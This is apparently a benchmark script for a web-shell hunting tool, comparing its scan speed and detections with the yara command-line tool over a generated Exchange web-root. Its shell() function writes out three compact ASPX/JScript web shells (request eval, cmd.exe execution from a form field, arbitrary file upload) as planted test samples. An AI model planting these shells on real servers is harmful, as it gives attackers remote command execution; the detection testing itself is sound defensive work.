"""Benchmark: exhunt's web-root scan vs the `yara` command-line tool, same rules, same files.

Generates a triage copy with a few thousand web files (mostly benign pages, scripts and
styles, some web shells), then times:
  - exhunt: `hunt()` over the copy (walk, hash every file, YARA-X on a bounded prefix, checks),
    default settings, and forced onto 2 worker processes;
  - peer:   `yara -r -p 2 -w <exhunt's rule file> <web folders>` (Debian package `yara`).
Prints files/s for each and the ratio; checks both flag the same files.

    .venv/bin/python bench/webshell_scan/run.py [--files 4000] [--keep DIR]
"""

from __future__ import annotations

import argparse
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from exhunt.collect import ArtifactKind, open_collection
from exhunt.hunt import engine
from exhunt.hunt import files as files_module
from exhunt.hunt.engine import hunt
from exhunt.hunt.files import FileStageSettings, builtin_rule_sources, knowledge, scan_file
from exhunt.model import PageTraits
from exhunt.readers.base import ReadStats

EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15"
FOLDERS = [f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts",
           f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/Current/themes/resources",
           f"{EXCHANGE}/FrontEnd/HttpProxy/ecp/15.1.2176/scripts",
           f"{EXCHANGE}/ClientAccess/ecp/Organize", f"{EXCHANGE}/ClientAccess/owa/prem",
           "C/inetpub/wwwroot", "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319"]
WORDS = ("mailbox", "folder", "message", "calendar", "contact", "rule", "retention", "policy",
         "mobile", "device", "journal", "transport", "connector", "certificate", "domain",
         "mailflow", "archive")


def benign(rng: random.Random, ext: str) -> str:
    body = " ".join(rng.choice(WORDS) for _ in range(rng.randint(80, 1500)))
    if ext == ".js":
        return (f"(function(){{var r=new XMLHttpRequest();function ok(x){{return eval('('+x."
                f"responseText+')');}}/* {body} */}})();\n")
    if ext == ".css":
        return "".join(f".{w}{i}{{color:#{rng.randrange(4096):03x}}}\n"
                       for i, w in enumerate(body.split()[:300]))
    return (f'<%@ Page Language="C#" Inherits="Microsoft.Exchange.Clients.Owa.{rng.choice(WORDS)}"'
            f' %>\n<html><body><div><%=Server.HtmlEncode(Request.QueryString["v"])%></div>'
            f"<p>{body}</p></body></html>\n")


def shell(rng: random.Random) -> str:
    param = "".join(rng.choice("abcdefghijklmnop0123456789") for _ in range(rng.randint(3, 9)))
    return rng.choice([
        f'<script language="JScript" runat="server">function Page_Load(){{eval(Request["{param}"]'
        f',"unsafe");}}</script>',
        f'<%@ Page Language="C#" %><script runat="server">void Page_Load(){{var p=System.'
        f'Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe","/c "+'
        f'Request.Form["{param}"]));}}</script>',
        f'<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0];f.SaveAs(Path.Combine('
        f'Server.MapPath("."), Request["{param}"])); %>',
    ])


def generate(root: Path, count: int, seed: int = 7) -> set[str]:
    rng = random.Random(seed)
    shells: set[str] = set()
    # An Exchange install is recognised by its Logging folder (ClientAccess counts only then).
    logs = root / EXCHANGE / "Logging/HttpProxy/Owa"
    logs.mkdir(parents=True)
    (logs / "HttpProxy_2021030100-1.LOG").write_text(
        "#Software: Microsoft Exchange Server\n#Version: 15.01.2176.002\n"
        "#Fields: DateTime,RequestId,ClientIpAddress,UrlStem,HttpStatus\n"
        "2021-03-01T00:00:00.000Z,1,192.0.2.1,/owa/,200\n")
    for i in range(count):
        folder = root / rng.choice(FOLDERS)
        folder.mkdir(parents=True, exist_ok=True)
        if rng.random() < 0.02:
            path = folder / f"s{i:05d}.aspx"
            path.write_text(shell(rng))
            shells.add(str(path.relative_to(root)))
            continue
        ext = rng.choice((".js", ".js", ".css", ".aspx", ".htm"))
        (folder / f"f{i:05d}{ext}").write_text(benign(rng, ext))
    return shells


def run_exhunt(root: Path, force_parallel: bool) -> tuple[float, set[str], int]:
    saved = engine.PARALLEL_MIN_BYTES
    if force_parallel:
        engine.PARALLEL_MIN_BYTES = 0
    try:
        start = time.perf_counter()
        report = hunt(str(root), workers=2)
        elapsed = time.perf_counter() - start
    finally:
        engine.PARALLEL_MIN_BYTES = saved
    # Files a family rule or the page's capabilities flagged, as the finding's reasons say
    # (since issue 15 unknown shells are judged by exhunt.readers.page, not by YARA rules).
    flagged = {f.artifact for f in report.findings if f.check == "webshell.file"
               and ("rule " in f.evidence or "what the page can do" in f.evidence)}
    return elapsed, flagged, report.coverage["file"].files


def run_file_stage_only(root: Path, page_reader: bool = True) -> float:
    """The file stage alone (hash + rules + header + names + page traits), serial, no walk,
    no checks; `page_reader=False` leaves out reading what pages can do (its cost)."""
    saved = files_module.read_page
    if not page_reader:
        files_module.read_page = lambda data: PageTraits()
    try:
        return _file_stage(root)
    finally:
        files_module.read_page = saved


def _file_stage(root: Path) -> float:
    settings = FileStageSettings()
    knowledge(settings)
    with open_collection(str(root)) as collection:
        artifacts = [a for a in collection.artifacts()
                     if a.kind in (ArtifactKind.WEB_FILE, ArtifactKind.OTHER_FILE)]
        start = time.perf_counter()
        for artifact in artifacts:
            scan_file(collection, artifact, settings, ReadStats(artifact.path))
        return time.perf_counter() - start


def run_yara(root: Path, rules: Path) -> tuple[float, set[str]]:
    targets = [str(root / "C")]
    start = time.perf_counter()
    out = subprocess.run(["yara", "-r", "-w", "-p", "2", str(rules), *targets],
                         capture_output=True, text=True, check=False)
    elapsed = time.perf_counter() - start
    if out.returncode not in (0, 1):
        sys.exit(f"yara failed: {out.stderr.strip()}")
    flagged = {str(Path(line.split(" ", 1)[1]).relative_to(root))
               for line in out.stdout.splitlines() if " " in line}
    flagged = {f for f in flagged if not f.endswith(".LOG")}
    return elapsed, flagged


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--files", type=int, default=4000)
    parser.add_argument("--keep", type=Path)
    args = parser.parse_args()
    if shutil.which("yara") is None:
        sys.exit("the peer is missing: apt-get install -y yara")
    work = Path(tempfile.mkdtemp(prefix="exhunt-bench-"))
    try:
        root = work / "copy"
        shells = generate(root, args.files)
        rules = work / "rules.yar"
        rules.write_text("\n".join(text for _, text in builtin_rule_sources()))
        total_bytes = sum(p.stat().st_size for p in root.rglob("*") if p.is_file())
        run_yara(root, rules)  # warm the page cache for both
        results = []
        for _ in range(3):
            t_x, flagged_x, files = run_exhunt(root, force_parallel=False)
            t_xp, flagged_xp, _ = run_exhunt(root, force_parallel=True)
            t_y, flagged_y = run_yara(root, rules)
            t_f = run_file_stage_only(root)
            t_n = run_file_stage_only(root, page_reader=False)
            results.append((t_x, t_xp, t_y, t_f, t_n))
        t_x, t_xp, t_y, t_f, t_n = (min(r[i] for r in results) for i in range(5))
        print(f"{files} files, {total_bytes / 1e6:.1f} MB, {len(shells)} shells planted")
        print(f"exhunt hunt (default):      {t_x:7.3f} s  {files / t_x:8.0f} files/s")
        print(f"exhunt hunt (2 processes):  {t_xp:7.3f} s  {files / t_xp:8.0f} files/s")
        print(f"exhunt file stage only:     {t_f:7.3f} s  {files / t_f:8.0f} files/s "
              "(1 process)")
        print(f"  without the page reader:  {t_n:7.3f} s  {files / t_n:8.0f} files/s "
              f"(the page reader costs {t_f / t_n:.2f}x)")
        print(f"yara -r -p 2 (4.2, CLI):    {t_y:7.3f} s  {files / t_y:8.0f} files/s")
        print(f"ratio exhunt/yara files/s: default {t_y / t_x:.2f}, 2 processes {t_y / t_xp:.2f}")
        print(f"shells flagged: exhunt {len(flagged_x & shells)}/{len(shells)}, yara "
              f"{len(flagged_y & shells)}/{len(shells)}; other files flagged: exhunt "
              f"{len(flagged_x - shells)}, yara {len(flagged_y - shells)}; yara's set within "
              f"exhunt's: {flagged_y <= flagged_x}; both exhunt runs agree: "
              f"{flagged_x == flagged_xp}")
        print(f"machine: {os.cpu_count()} cores (shared); exhunt also hashes every file "
              "(sha256) and runs its checks; yara only matches")
    finally:
        if args.keep:
            shutil.copytree(work, args.keep, dirs_exist_ok=True)
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
